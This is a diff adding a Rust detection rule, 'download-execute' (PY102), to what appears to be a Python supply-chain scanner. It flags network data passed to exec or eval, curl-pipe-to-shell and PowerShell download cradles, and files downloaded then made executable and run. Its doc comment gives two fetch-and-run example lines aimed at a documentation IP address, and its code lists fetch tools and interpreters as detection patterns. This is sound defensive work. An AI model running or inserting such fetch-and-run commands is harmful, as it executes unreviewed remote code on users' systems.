@@ -1,0 +1,253 @@
+//! PY102 `download-execute`: downloaded code or files are run.
+//!
+//! **What it detects.** (1) Data received from the network (urllib,
+//! requests, httpx, a socket) flowing into `exec`/`eval`/`compile` or a
+//! process; (2) a shell command that fetches and runs in one go
+//! (`curl … | sh`, `wget -O x && chmod +x x && ./x`, PowerShell
+//! `DownloadString`/`IEX` cradles); (3) a file downloaded
+//! (`urlretrieve`, `requests` response written to disk), made executable
+//! and started in the same file.
+//!
+//! **Why it matters.** `pyscrapy` downloaded and ran a trojan from its
+//! `setup.py` during `pip install`; `python3-dateutil` fetched and executed
+//! its stage two at install time. Remote code changes after review
+//! (CWE-494, CWE-829).
+//!
+//! **Example.**
+//! ```python
+//! exec(urllib.request.urlopen("http://203.0.113.7/x.py").read())
+//! os.system("curl -s http://203.0.113.7/i.sh | sh")
+//! ```
+//!
+//! **False positives.** Tools that install helper binaries (browser
+//! drivers) download, chmod and run them as their documented job; without
+//! a traced flow in library code this is medium, not high.
+
+use sluice_model::{Confidence, Finding, Severity};
+
+use super::facts::{Call, Caps, Facts, Labels, is_net_call, is_proc_sink_name};
+use super::{at_call, by_role, command_of, urls_in};
+
+/// Rule name.
+pub const NAME: &str = "download-execute";
+
+fn is_exec_sink(c: &Call) -> bool {
+    matches!(
+        c.target.as_str(),
+        "exec"
+            | "eval"
+            | "execfile"
+            | "compile"
+            | "types.FunctionType"
+            | "marshal.loads"
+            | "runpy.run_path"
+            | "pickle.loads"
+            | "cPickle.loads"
+    ) || is_proc_sink_name(&c.target)
+        || (c.target.starts_with("local:") && c.caps.has(Caps::CODE))
+}
+
+/// A shell command line that downloads and runs in one go.
+#[must_use]
+pub fn is_fetch_and_run(cmd: &str) -> bool {
+    let has_fetch = [
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "downloadstring",
+        "downloadfile",
+        "iwr ",
+        "certutil -urlcache",
+        "bitsadmin /transfer",
+    ]
+    .iter()
+    .any(|w| cmd.contains(w));
+    if !has_fetch {
+        return false;
+    }
+    let piped = cmd.split('|').skip(1).any(|seg| {
+        let seg = seg.trim_start();
+        let seg = seg.strip_prefix("sudo ").unwrap_or(seg);
+        [
+            "sh",
+            "bash",
+            "zsh",
+            "dash",
+            "python",
+            "python3",
+            "perl",
+            "ruby",
+            "iex",
+            "powershell",
+            "node",
+        ]
+        .iter()
+        .any(|s| {
+            seg == *s
+                || seg.starts_with(&format!("{s} "))
+                || seg.starts_with(&format!("{s}\n"))
+                || seg.starts_with(&format!("{s}-"))
+        })
+    });
+    let chmod_run =
+        (cmd.contains("chmod +x") || cmd.contains("chmod 7") || cmd.contains("chmod 5"))
+            && (cmd.contains("./")
+                || cmd.contains("&& /")
+                || cmd.contains("; /")
+                || cmd.contains("nohup"));
+    let cradle = (cmd.contains("downloadstring")
+        || cmd.contains("downloadfile")
+        || cmd.contains("invoke-webrequest")
+        || cmd.contains("iwr "))
+        && (cmd.contains("iex")
+            || cmd.contains("invoke-expression")
+            || cmd.contains("start-process"));
+    piped || chmod_run || cradle
+}
+
+/// Check one file.
+#[must_use]
+pub fn check(f: &Facts<'_>) -> Vec<Finding> {
+    let role = f.file.role;
+    let mut out = Vec::new();
+    // (1) fetched data into execution
+    for c in f
+        .calls
+        .iter()
+        .filter(|c| is_exec_sink(c) && c.arg_labels.has(Labels::FETCHED))
+    {
+        let urls = urls_in(
+            f.calls
+                .iter()
+                .filter(|x| x.result.has(Labels::FETCHED))
+                .flat_map(|x| x.strings.iter()),
+        );
+        let mut fd = at_call(
+            f,
+            "PY102",
+            NAME,
+            by_role(role, Severity::Critical, Severity::High),
+            Confidence::High,
+            format!(
+                "executes data downloaded from the network with `{}`",
+                c.target
+            ),
+            c,
+        )
+        .evidence("flow: network response → execution");
+        for u in urls {
+            fd = fd.evidence(format!("downloads from: {u}"));
+        }
+        out.push(fd);
+        if out.len() >= 3 {
+            return out;
+        }
+    }
+    // (2) fetch-and-run shell one-liners
+    for c in f
+        .calls
+        .iter()
+        .filter(|c| c.caps.has(Caps::PROC) || is_proc_sink_name(&c.target))
+    {
+        let cmd = command_of(c);
+        if is_fetch_and_run(&cmd) {
+            let mut fd = at_call(
+                f,
+                "PY102",
+                NAME,
+                by_role(role, Severity::Critical, Severity::High),
+                Confidence::High,
+                "runs a shell command that downloads and executes code",
+                c,
+            )
+            .evidence(format!(
+                "command: {}",
+                cmd.chars().take(160).collect::<String>()
+            ));
+            for u in urls_in(&c.strings) {
+                fd = fd.evidence(format!("downloads from: {u}"));
+            }
+            out.push(fd);
+        }
+    }
+    if !out.is_empty() {
+        return out;
+    }
+    // (3) download to a file, make it executable, run it
+    let downloads: Vec<&Call> = f
+        .calls
+        .iter()
+        .filter(|c| {
+            matches!(
+                c.target.as_str(),
+                "urllib.request.urlretrieve"
+                    | "urllib.urlretrieve"
+                    | "urlretrieve"
+                    | "wget.download"
+            ) || (matches!(c.method.as_str(), "write" | "write_bytes" | "copyfileobj")
+                && c.arg_labels.has(Labels::FETCHED))
+        })
+        .collect();
+    if downloads.is_empty() {
+        return out;
+    }
+    let chmod = f.calls.iter().find(|c| {
+        (c.target == "os.chmod"
+            && (c.text.contains("S_IX")
+                || c.text.contains("0o7")
+                || c.text.contains("0o5")
+                || c.text.contains("0755")
+                || c.text.contains("0777")
+                || c.text.contains("493")
+                || c.text.contains("511")))
+            || (is_proc_sink_name(&c.target) && command_of(c).contains("chmod"))
+    });
+    let runs: Vec<&Call> = f
+        .calls
+        .iter()
+        .filter(|c| is_proc_sink_name(&c.target) || c.target == "os.startfile")
+        .collect();
+    let shares = |a: &Call, b: &Call| {
+        a.idents.iter().any(|i| b.idents.contains(i))
+            || a.strings
+                .iter()
+                .any(|s| s.len() > 3 && !s.starts_with("http") && b.strings.contains(s))
+    };
+    let linked = runs.iter().find(|r| downloads.iter().any(|d| shares(d, r)));
+    let run = linked.or(runs.first());
+    let Some(run) = run else { return out };
+    if chmod.is_none() && linked.is_none() {
+        return out;
+    }
+    let conf = if linked.is_some() {
+        Confidence::High
+    } else {
+        Confidence::Medium
+    };
+    let sev = if role.runs_unasked() {
+        Severity::Critical
+    } else if linked.is_some() && chmod.is_some() {
+        Severity::High
+    } else {
+        Severity::Medium
+    };
+    let mut fd = at_call(
+        f,
+        "PY102",
+        NAME,
+        sev,
+        conf,
+        "downloads a file and runs it",
+        run,
+    )
+    .evidence(format!("download: line {}", downloads[0].line));
+    if let Some(c) = chmod {
+        fd = fd.evidence(format!("made executable: line {}", c.line));
+    }
+    for u in urls_in(downloads.iter().flat_map(|d| d.strings.iter())) {
+        fd = fd.evidence(format!("downloads from: {u}"));
+    }
+    let _ = is_net_call;
+    out.push(fd);
+    out
+}
